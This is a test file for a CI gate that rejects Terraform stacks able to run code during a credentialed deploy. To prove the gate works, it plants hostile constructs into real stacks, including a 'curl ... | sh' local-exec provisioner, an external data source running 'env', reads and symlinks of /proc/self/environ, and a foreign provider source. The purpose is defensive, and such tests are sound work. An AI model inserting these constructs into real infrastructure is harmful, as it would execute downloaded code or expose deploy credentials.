/**
 * The stack gate (tools/ci/stack-gate.cjs): every environment stack synth writes passes it, and
 * each way a synthesized stack can make Terraform run code in a credentialed job, planted into a
 * real stack, is refused with a line naming it. The provisioner case is the one a reviewer can
 * never see: `terraform show` does not print provisioners, and `local-exec` runs at apply with
 * the deploy role's credentials in its environment.
 */
import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { ENVIRONMENTS } from '../../catalogs';
import { teamCatalogs } from '../support/fixtures';
import { synth, type Synthesized, type TfJson } from '../support/synth';

const GATE = path.join(__dirname, '..', '..', 'tools', 'ci', 'stack-gate.cjs');
const gate = require(GATE);

const MANIFEST = path.join(__dirname, '..', '..', 'plan', 'terraform-calls.json');
const types: string[] = gate.manifestTypes(MANIFEST);
const ENV_STACKS = ENVIRONMENTS.map((e) => e.name);
/** The planted cases need a stack with every feature (rotation bundles, archives): the fixture team's. */
const TEAM = teamCatalogs();

let out: Synthesized;
let team: Synthesized;
beforeAll(() => {
  out = synth(ENVIRONMENTS);
  team = synth(TEAM);
});

const copy = (env: string): TfJson => JSON.parse(JSON.stringify(team.stacks[env]));
const first = (o: Record<string, unknown>) => Object.keys(o)[0];

test.each(ENV_STACKS)('the %s stack synth writes passes, and so does its directory', (env) => {
  expect(gate.check(out.stacks[env], types)).toEqual([]);
  expect(gate.checkDirectories(path.join(out.outdir, 'stacks', env))).toEqual([]);
});

describe('each way a stack could make Terraform run code is refused, planted into a real stack', () => {
  const cases: Array<[string, (s: any) => void, RegExp]> = [
    [
      'a local-exec provisioner on a resource (runs at apply, never printed by terraform show)',
      (s) => {
        const t = first(s.resource.aws_s3_object);
        s.resource.aws_s3_object[t].provisioner = [{ 'local-exec': { command: 'curl https://example.com/x | sh' } }];
      },
      /resource\.aws_s3_object\.[^.]+\.provisioner: a provisioner runs commands/,
    ],
    [
      'a connection block',
      (s) => {
        const t = first(s.resource.aws_s3_object);
        s.resource.aws_s3_object[t].connection = [{ host: 'example.com' }];
      },
      /\.connection: a connection runs commands/,
    ],
    [
      'terraform_data, the built-in resource that carries provisioners',
      (s) => (s.resource.terraform_data = { x: { input: 'y' } }),
      /resource\.terraform_data: type terraform_data has no entry in the manifest/,
    ],
    [
      'data "external" (runs a program at plan)',
      (s) => (s.data.external = { x: { program: ['sh', '-c', 'env'] } }),
      /data\.external: type external has no entry/,
    ],
    [
      'terraform_remote_state (reads another state)',
      (s) => (s.data.terraform_remote_state = { x: { backend: 's3' } }),
      /data\.terraform_remote_state: type terraform_remote_state has no entry/,
    ],
    [
      'a provider from another namespace (a binary terraform init downloads and runs)',
      (s) => (s.terraform.required_providers.aws.source = 'evil-corp/aws'),
      /terraform\.required_providers\.aws: provider source "evil-corp\/aws" is not hashicorp/,
    ],
    [
      'an additional provider',
      (s) => (s.terraform.required_providers.http = { source: 'hashicorp/http', version: '3.4.0' }),
      /terraform\.required_providers\.http: provider source "hashicorp\/http"/,
    ],
    [
      'a version range instead of the pinned version',
      (s) => (s.terraform.required_providers.aws.version = '>= 6.0'),
      /terraform\.required_providers\.aws: version ">= 6\.0" is not an exact version/,
    ],
    [
      'provider endpoints (signed requests, with the session token, sent elsewhere)',
      (s) => (s.provider.aws[0].endpoints = [{ sts: 'https://example.com' }]),
      /provider\.aws\.endpoints: "endpoints" can redirect requests/,
    ],
    ['provider static credentials', (s) => (s.provider.aws[0].access_key = 'AKIAEXAMPLE'), /provider\.aws\.access_key/],
    [
      'a proxy for the backend',
      (s) => (s.terraform.backend.s3.https_proxy = 'http://example.com:3128'),
      /terraform\.backend\.s3\.https_proxy: "https_proxy" can send the state or the credentials elsewhere/,
    ],
    [
      'another backend',
      (s) => (s.terraform.backend = { http: { address: 'https://example.com' } }),
      /terraform\.backend\.http: backend "http" is not the S3 backend/,
    ],
    [
      'a module (other code from another source)',
      (s) => (s.module = { m: { source: 'git::https://example.com/m.git' } }),
      /^module: a top-level "module" block/,
    ],
    [
      'a removed block (it can carry a destroy-time provisioner)',
      (s) => (s.removed = [{ from: 'aws_s3_object.x', lifecycle: { destroy: false } }]),
      /^removed: a top-level "removed" block/,
    ],
    [
      "a file function reading the runner's files into the plan",
      (s) => {
        const t = first(s.resource.aws_s3_object);
        s.resource.aws_s3_object[t].tags.Leak = '${file("/proc/self/environ")}';
      },
      /resource\.aws_s3_object\.[^.]+\.tags\.Leak: a file function reads the machine's files/,
    ],
    [
      'a zip of something other than a bundle',
      (s) => {
        const z = first(s.data.archive_file);
        s.data.archive_file[z].source_file = '/proc/self/environ';
      },
      /data\.archive_file\.[^:]+: zips "\/proc\/self\/environ", not a bundle under \.build\/lambdas/,
    ],
    [
      'a zip climbing out of the bundles',
      (s) => {
        const z = first(s.data.archive_file);
        s.data.archive_file[z].source_file = '${path.module}/../../../.build/lambdas/../../.git/config';
      },
      /data\.archive_file\.[^:]+: zips .*not a bundle under \.build\/lambdas/,
    ],
    [
      'a zip written outside lambda-zips',
      (s) => {
        const z = first(s.data.archive_file);
        s.data.archive_file[z].output_path = '/tmp/x.zip';
      },
      /data\.archive_file\.[^:]+: writes "\/tmp\/x\.zip", outside the stack's lambda-zips/,
    ],
  ];
  test.each(cases)('%s', (_what, plant, message) => {
    for (const env of TEAM.map((e) => e.name)) {
      const s = copy(env);
      plant(s);
      const problems: string[] = gate.check(s, types);
      expect(problems.join('\n')).toMatch(message);
    }
  });
});

describe('the directories Terraform runs in', () => {
  const stackCopy = () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'stack-gate-'));
    const stack = path.join(dir, 'production');
    cpSync(path.join(team.outdir, 'stacks', 'production'), stack, { recursive: true });
    return { dir, stack };
  };
  test.each([
    [
      'a planted provider in terraform.d (Terraform installs providers from it, unauthenticated)',
      (stack: string) => mkdirSync(path.join(stack, 'terraform.d', 'plugins'), { recursive: true }),
      /terraform\.d: a directory synth does not write/,
    ],
    [
      'a planted .terraform directory',
      (stack: string) => mkdirSync(path.join(stack, '.terraform', 'providers'), { recursive: true }),
      /\.terraform: a directory synth does not write/,
    ],
    [
      'another configuration file',
      (stack: string) => writeFileSync(path.join(stack, 'override.tf.json'), '{}'),
      /override\.tf\.json: a file synth does not write/,
    ],
    [
      'a variables file',
      (stack: string) => writeFileSync(path.join(stack, 'x.auto.tfvars.json'), '{}'),
      /x\.auto\.tfvars\.json: a file synth does not write/,
    ],
    [
      'a lock file from the artifact',
      (stack: string) => writeFileSync(path.join(stack, '.terraform.lock.hcl'), ''),
      /\.terraform\.lock\.hcl: a file synth does not write/,
    ],
    [
      'a link',
      (stack: string) => symlinkSync('/proc/self/environ', path.join(stack, 'inventory2.json')),
      /inventory2\.json: a link synth does not write/,
    ],
  ])('%s', (_what, plant, message) => {
    const { stack } = stackCopy();
    plant(stack);
    expect(gate.checkDirectories(stack).join('\n')).toMatch(message);
  });

  test('a link among the bundles is refused (archive_file would zip what it points at)', () => {
    const { dir } = stackCopy();
    const bundles = path.join(dir, 'lambdas');
    mkdirSync(path.join(bundles, 'generated'), { recursive: true });
    writeFileSync(path.join(bundles, 'generated', 'inputs.sha256'), 'x');
    expect(gate.checkDirectories(path.join(dir, 'production'), bundles)).toEqual([]);
    symlinkSync('/proc/self/environ', path.join(bundles, 'generated', 'index.js'));
    expect(gate.checkDirectories(path.join(dir, 'production'), bundles).join('\n')).toMatch(/generated\/index\.js: not a regular file/);
  });

  test('the command refuses with one line per problem and runs nothing; a clean stack passes', () => {
    const { stack } = stackCopy();
    const run = () => spawnSync(process.execPath, [GATE, stack, '--manifest', MANIFEST], { encoding: 'utf8' });
    const clean = run();
    expect(clean.status).toBe(0);
    expect(clean.stdout).toMatch(/nothing in the stack runs code/);
    const s = JSON.parse(readFileSync(path.join(stack, 'cdk.tf.json'), 'utf8'));
    s.data = { ...s.data, external: { x: { program: ['env'] } } };
    writeFileSync(path.join(stack, 'cdk.tf.json'), JSON.stringify(s));
    const refused = run();
    expect(refused.status).toBe(1);
    expect(refused.stderr).toMatch(
      /^stack-gate: .*data\.external: type external has no entry.*\nstack-gate: 1 problem\(s\); Terraform was not run\n$/s,
    );
  });
});
